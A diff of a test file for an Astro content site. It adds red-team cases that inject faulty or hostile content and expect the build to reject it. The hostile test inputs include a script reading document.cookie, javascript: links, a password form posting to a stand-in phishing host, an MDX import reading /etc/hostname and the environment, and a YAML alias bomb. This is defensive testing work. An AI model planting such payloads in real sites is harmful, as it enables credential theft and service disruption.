@@ -3,10 +3,11 @@
  * the build with a message that names the file and what is wrong, before any stack trace.
  * Each case builds its own copy of the project (test/support/astro-cli.ts).
  */
-import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { projectCopy, runAstro } from '../support/astro-cli';
+import { filesUnder } from '../support/built-files';
 
 type Edit = (file: (path: string, change: (text: string) => string) => void, root: string) => void;
 
@@ -158,14 +159,140 @@ const corpus: BrokenInput[] = [
     message: /link "\.\.\/\.\.\/no-such-page\/" leads to no page/,
     edit: (f) => f(guideEn, (t) => `${t}\nSee [the missing page](../../no-such-page/).\n`),
   },
+  // The red team's content authoring faults (shared/reviews/red-team-1.md §4), A3 to A14.
+  {
+    name: 'A3: a guide page with an unclosed component',
+    file: guideEn,
+    message: /does not parse as MDX/,
+    edit: (f) => f(guideEn, (t) => `${t}\n<CaseCard id="alibaba-l2-night-duty-care"\n`),
+  },
+  {
+    name: 'A4: a guide page with a script',
+    file: guideEn,
+    message: /line \d+: <script> is not allowed in a guide page/,
+    edit: (f) => f(guideEn, (t) => `${t}\n<script>alert(document.cookie)</script>\n`),
+  },
+  {
+    name: 'A4: a guide page with javascript: links',
+    file: guideEn,
+    message: /line \d+: link "javascript:alert\(1\)" would run code[\s\S]*line \d+: <a> is not allowed/,
+    edit: (f) => f(guideEn, (t) => `${t}\n[Open](javascript:alert(1))\n\n<a href="javascript:alert(2)">Open</a>\n`),
+  },
+  {
+    name: 'A4: a guide page with a remote frame, a remote image and an off-site form with a password field',
+    file: guideEn,
+    message: /line \d+: <iframe> is not allowed[\s\S]*line \d+: image "https:\/\/tracker\.example\/p\.png" is not on this site[\s\S]*line \d+: <form> is not allowed/,
+    edit: (f) =>
+      f(
+        guideEn,
+        (t) =>
+          `${t}\n<iframe src="https://example.org/" />\n\n![pixel](https://tracker.example/p.png)\n\n<form action="https://phish.example/collect"><input type="password" name="p" /></form>\n`,
+      ),
+  },
+  {
+    name: 'A14: a guide page that imports a Node module and prints the build machine’s files and environment',
+    file: guideEn,
+    message: /line \d+: import and export are not allowed[\s\S]*line \d+: expressions in braces are not allowed/,
+    edit: (f) =>
+      f(guideEn, (t) => `${t}\nimport { readFileSync } from "node:fs";\n\nBuild machine: {readFileSync("/etc/hostname", "utf8")} env: {process.env.RED_TEAM_MARKER}\n`),
+  },
+  {
+    name: 'A6: a case saved as .yml',
+    file: 'cases/alibaba-l1-new-case.yml',
+    message: /entries are \.yaml files; rename it to alibaba-l1-new-case\.yaml/,
+    edit: (_, root) => writeFileSync(join(root, 'content', 'cases/alibaba-l1-new-case.yml'), readFileSync(join(root, 'content', aCase), 'utf8')),
+  },
+  {
+    name: 'A7: a case in a subfolder',
+    file: 'cases/2026/alibaba-l1-subfolder-case.yaml',
+    message: /files in subfolders are not read; move it to content\/cases\//,
+    edit: (_, root) => {
+      mkdirSync(join(root, 'content', 'cases/2026'));
+      writeFileSync(join(root, 'content', 'cases/2026/alibaba-l1-subfolder-case.yaml'), readFileSync(join(root, 'content', aCase), 'utf8'));
+    },
+  },
+  {
+    name: 'A8: two glossary terms with one English rendering',
+    file: 'glossary/pass-through.yaml',
+    message: /term\.en: "pass-through" is already the English rendering of content\/glossary\/|is already the English rendering of content\/glossary\/pass-through\.yaml/,
+    edit: (_, root) =>
+      writeFileSync(
+        join(root, 'content', 'glossary/half-point-2.yaml'),
+        readFileSync(join(root, 'content', 'glossary/half-point.yaml'), 'utf8').replace(/^  en: half point$/m, '  en: pass-through'),
+      ),
+  },
+  {
+    name: 'A9: a case of 2 MB (a page over its size budget)',
+    file: aCase,
+    message: /en\/cases\/alibaba-l1-manager-insults-staff\/index\.html: \d+ KB of HTML.*over the page budget/,
+    edit: (f) => f(aCase, replace(/^(text:\n  zh-hant: .*\n  en:) .*$/m, `$1 '${noise(2 * 1024 * 1024)}'`)),
+  },
+  {
+    name: 'A9: a case of 2 MB that compresses well (a page over its size before compression)',
+    file: aCase,
+    message: /en\/cases\/alibaba-l1-manager-insults-staff\/index\.html: \d+ KB of HTML, over the page budget of 400 KB before compression/,
+    edit: (f) => f(aCase, replace(/^(text:\n  zh-hant: .*\n  en:) .*$/m, `$1 '${'Customer first. '.repeat(128 * 1024)}'`)),
+  },
+  {
+    name: 'A10: a case file saved in Big5',
+    file: aCase,
+    message: /is not UTF-8: it looks like Big5/,
+    edit: (_, root) => writeFileSync(join(root, 'content', aCase), big5(readFileSync(join(root, 'content', aCase), 'utf8'))),
+  },
+  {
+    name: 'A11: one stray Latin-1 byte',
+    file: aCase,
+    message: /is not UTF-8: line \d+ has the byte 0xE9/,
+    edit: (_, root) => {
+      const path = join(root, 'content', aCase);
+      const text = readFileSync(path, 'utf8').replace(/^(title:\n  zh-hant: .*\n  en: )/m, '$1caf');
+      const at = Buffer.byteLength(text.slice(0, text.indexOf('caf') + 3));
+      writeFileSync(path, Buffer.concat([Buffer.from(text).subarray(0, at), Buffer.from([0xe9]), Buffer.from(text).subarray(at)]));
+    },
+  },
+  { name: 'A12: a level written as text', file: aCase, message: /level: .*(number|string)/, edit: (f) => f(aCase, replace(/^level: 1$/m, 'level: "1"')) },
+  {
+    name: 'A13: a YAML alias bomb',
+    file: aCase,
+    message: /[Uu]nrecognized|alias|too many|exceed/,
+    edit: (f) =>
+      f(aCase, (t) => `a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\ne: [*d, *d, *d, *d, *d, *d, *d, *d, *d]\n${t}`),
+  },
 ];
+
+/** `length` characters of text that does not compress (a pasted document, not a repeated letter), without quotes or newlines. */
+function noise(length: number): string {
+  const letters = 'abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,';
+  let seed = 1;
+  let out = '';
+  for (let i = 0; i < length; i++) {
+    seed = (seed * 1103515245 + 12345) % 2 ** 31;
+    out += letters[seed % letters.length];
+  }
+  return out;
+}
+
+/** `text` encoded in Big5 (Node encodes only UTF-8: the table is built by decoding every Big5 pair). */
+function big5(text: string): Buffer {
+  const decoder = new TextDecoder('big5');
+  const table = new Map<string, number[]>();
+  for (let lead = 0x81; lead <= 0xfe; lead++) {
+    for (let trail = 0x40; trail <= 0xfe; trail++) {
+      if (trail > 0x7e && trail < 0xa1) continue;
+      const ch = decoder.decode(new Uint8Array([lead, trail]));
+      if (!table.has(ch)) table.set(ch, [lead, trail]);
+    }
+  }
+  const bytes = [...text].flatMap((ch) => (ch.charCodeAt(0) < 0x80 ? [ch.charCodeAt(0)] : (table.get(ch) ?? [0x3f])));
+  return Buffer.from(bytes);
+}
 
 describe('broken content fails the build, naming the file and what is wrong', () => {
   test('the corpus holds at least 20 kinds of mistake', () => {
     expect(corpus.length).toBeGreaterThanOrEqual(20);
   });
 
-  test.each(corpus)('$name', { timeout: 60_000 }, ({ edit, file, message }) => {
+  test.each(corpus)('$name', { timeout: 180_000 }, ({ edit, file, message }) => {
     const root = projectCopy();
     try {
       edit((path, change) => writeFileSync(join(root, 'content', path), change(readFileSync(join(root, 'content', path), 'utf8'))), root);
@@ -183,4 +310,22 @@ describe('broken content fails the build, naming the file and what is wrong', ()
       rmSync(root, { recursive: true, force: true });
     }
   });
+});
+
+test('A15: a build without SITE_URL warns, and no page names a development host as its address', { timeout: 300_000 }, () => {
+  const root = projectCopy();
+  try {
+    const outDir = join(root, 'dist');
+    const { status, output } = runAstro(['build'], { OUT_DIR: outDir, SITE_URL: '' }, root);
+    expect(status, output).toBe(0);
+    expect(output).toMatch(/SITE_URL is not set: the pages are built without canonical and hreflang links/);
+    const pages = filesUnder(outDir).filter((f) => f.endsWith('.html'));
+    expect(pages.length).toBeGreaterThan(25);
+    for (const page of pages) {
+      const html = readFileSync(join(outDir, page), 'utf8');
+      expect(html, page).not.toMatch(/<link rel="(?:canonical|alternate)"|localhost:4321/);
+    }
+  } finally {
+    rmSync(root, { recursive: true, force: true });
+  }
 });
